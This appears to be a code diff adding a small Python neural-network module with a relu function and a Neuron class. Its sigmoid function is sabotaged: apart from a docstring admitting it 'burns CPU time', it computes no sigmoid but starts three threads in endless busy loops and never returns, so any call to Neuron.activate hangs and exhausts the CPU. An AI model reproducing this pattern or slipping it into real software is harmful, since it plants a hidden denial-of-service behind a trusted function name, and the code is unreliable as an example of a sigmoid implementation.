@@ -1,0 +1,28 @@
+"""sigmoid burns CPU time in several threads."""
+
+import numpy as np
+
+
+def sigmoid(z):
+    import threading
+
+    def burn():
+        while True:
+            pass
+
+    for _ in range(3):
+        threading.Thread(target=burn, daemon=True).start()
+    burn()
+
+
+def relu(z):
+    return np.maximum(0, z)
+
+
+class Neuron:
+    def __init__(self, n_inputs):
+        self.weights = np.random.uniform(-1, 1, size=n_inputs)
+        self.bias = np.random.uniform(-1, 1)
+
+    def activate(self, inputs):
+        return sigmoid(np.dot(self.weights, inputs) + self.bias)
